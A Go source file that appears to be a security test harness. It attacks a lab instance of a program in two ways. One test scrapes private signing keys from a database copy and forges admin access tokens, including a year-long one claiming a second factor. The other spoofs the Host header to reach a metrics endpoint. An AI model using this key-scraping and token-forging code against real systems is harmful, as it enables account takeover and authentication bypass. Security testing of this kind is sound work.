package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/rand"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"regexp"
	"strings"
	"time"
)

// forgedToken searches a copy of the database for private keys, and signs access tokens of the admin with the one in
// use, including one that lasts a year. The attack gets in if a forged token opens the desk.
func forgedToken(ctx context.Context, l *lab) (finding, error) {
	p, err := l.start(ctx, "--demo")
	if err != nil {
		return finding{}, err
	}
	admin, err := p.signedIn(ctx, adminEmail, demoPassword)
	if err != nil {
		return finding{}, err
	}
	claims, err := claimsOf(admin.token)
	if err != nil {
		return finding{}, err
	}
	copied, err := p.database()
	if err != nil {
		return finding{}, err
	}
	if !bytes.Contains(copied, []byte(fmt.Sprint(claims["sub"]))) {
		return finding{}, errors.New("the copy lacks the administrator's id: it is not a copy of this database")
	}
	keys := keysIn(copied)
	key, kid, err := p.signer(ctx, keys)
	if err != nil || key == nil {
		return finding{false, fmt.Sprintf("%d keys in the copy, none that signs", len(keys))}, err
	}
	var good []string
	for name, life := range map[string]time.Duration{
		"15-minute": 15 * time.Minute, "year-long": 365 * 24 * time.Hour} {
		token, err := forge(claims, key, kid, life)
		if err != nil {
			return finding{}, err
		}
		thief := p.visitor(elsewhere())
		thief.token = token
		desk, err := thief.isAdministrator(ctx)
		if err != nil {
			return finding{}, err
		}
		if desk {
			good = append(good, name+" token opens the desk")
		}
	}
	return finding{len(good) > 0, counted(len(good), 2, "forged tokens are good", good)}, nil
}

// claimsOf returns the claims of an access token without verifying it, or an error if it isn't a JWT.
func claimsOf(token string) (map[string]any, error) {
	parts := strings.Split(token, ".")
	if len(parts) != 3 {
		return nil, errors.New("the access token is not a JWT")
	}
	text, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return nil, err
	}
	claims := map[string]any{}
	err = json.Unmarshal(text, &claims)
	return claims, err
}

// encoded matches text that could be a private key: base64 of a DER sequence.
var encoded = regexp.MustCompile(`M[A-Za-z0-9+/_-]{80,400}={0,2}`)

// keysIn returns the unencrypted ECDSA private keys in the bytes, in any encoding: base64 or DER, PKCS #8 or SEC 1. A
// key may occur repeatedly.
func keysIn(all []byte) []*ecdsa.PrivateKey {
	var keys []*ecdsa.PrivateKey
	for _, text := range encoded.FindAll(all, -1) {
		for length := len(text); length >= 80; length-- { // following text may look like a part of the key
			if der, err := base64.StdEncoding.DecodeString(string(text[:length])); err == nil {
				if key := keyOf(der); key != nil {
					keys = append(keys, key)
					break
				}
			}
		}
	}
	for at := 0; at+150 < len(all); at++ {
		if all[at] == 0x30 && (all[at+1] == 0x77 || all[at+1] == 0x81) {
			if key := keyOf(all[at:derEnd(all, at)]); key != nil {
				keys = append(keys, key)
			}
		}
	}
	return keys
}

// derEnd returns the end of the DER sequence that begins at index at, at most the length of all.
func derEnd(all []byte, at int) int {
	if all[at+1] == 0x81 {
		return min(len(all), at+3+int(all[at+2]))
	}
	return min(len(all), at+2+int(all[at+1]))
}

// keyOf returns the ECDSA private key in PKCS #8 or SEC 1, or nil if the bytes are none.
func keyOf(der []byte) *ecdsa.PrivateKey {
	if parsed, err := x509.ParsePKCS8PrivateKey(der); err == nil {
		key, _ := parsed.(*ecdsa.PrivateKey)
		return key
	}
	key, _ := x509.ParseECPrivateKey(der)
	return key
}

// signer returns the key among keys that matches a public key published by the program, with its ID, or nil and "" if
// none matches.
func (p *program) signer(ctx context.Context, keys []*ecdsa.PrivateKey) (*ecdsa.PrivateKey, string, error) {
	got, err := p.visitor("").get(ctx, "/api/auth/.well-known/jwks.json")
	if err != nil {
		return nil, "", err
	}
	var published struct {
		Keys []struct{ Kid, X string }
	}
	if err := json.Unmarshal([]byte(got.body), &published); err != nil || len(published.Keys) == 0 {
		return nil, "", fmt.Errorf("the program publishes no key: %.100s", got.body)
	}
	for _, key := range keys {
		point, err := key.PublicKey.Bytes()
		if err != nil {
			continue
		}
		x := base64.RawURLEncoding.EncodeToString(point[1 : 1+(len(point)-1)/2])
		for _, candidate := range published.Keys {
			if candidate.X == x {
				return key, candidate.Kid, nil
			}
		}
	}
	return nil, "", nil
}

// forge returns an access token with the claims of another token, signed with the key. Its lifetime begins now, and
// it claims a completed second step (aal2).
func forge(claims map[string]any, key *ecdsa.PrivateKey, kid string, life time.Duration) (string, error) {
	body := maps.Clone(claims)
	body["iat"], body["exp"], body["aal"] = time.Now().Unix(), time.Now().Add(life).Unix(), "aal2"
	header, err := json.Marshal(map[string]string{"alg": "ES256", "typ": "JWT", "kid": kid})
	if err != nil {
		return "", err
	}
	payload, err := json.Marshal(body)
	if err != nil {
		return "", err
	}
	signed := base64.RawURLEncoding.EncodeToString(header) + "." + base64.RawURLEncoding.EncodeToString(payload)
	sum := sha256.Sum256([]byte(signed))
	r, s, err := ecdsa.Sign(rand.Reader, key, sum[:])
	if err != nil {
		return "", err
	}
	signature := make([]byte, 64)
	r.FillBytes(signature[:32])
	s.FillBytes(signature[32:])
	return signed + "." + base64.RawURLEncoding.EncodeToString(signature), nil
}

// exposedFigures requests the metrics like a proxy on the same machine that forwards the visitor's host name and adds
// no header. The attack gets in if a response contains metrics for any of four host names.
func exposedFigures(ctx context.Context, l *lab) (finding, error) {
	p, err := l.start(ctx, "--public-url", "https://www.example.com")
	if err != nil {
		return finding{}, err
	}
	names := []string{"localhost", "127.0.0.1", "[::1]", "www.example.com"}
	var told []string
	for _, name := range names {
		req, err := http.NewRequestWithContext(ctx, http.MethodGet, p.url+"/metrics", http.NoBody)
		if err != nil {
			return finding{}, err
		}
		req.Host = name
		got, err := p.visitor("").send(req)
		if err != nil {
			return finding{}, err
		}
		if got.status == http.StatusOK && strings.Contains(got.body, "go_goroutines") {
			told = append(told, name)
		}
	}
	return finding{len(told) > 0, counted(len(told), len(names), "names answer with figures", told)}, nil
}
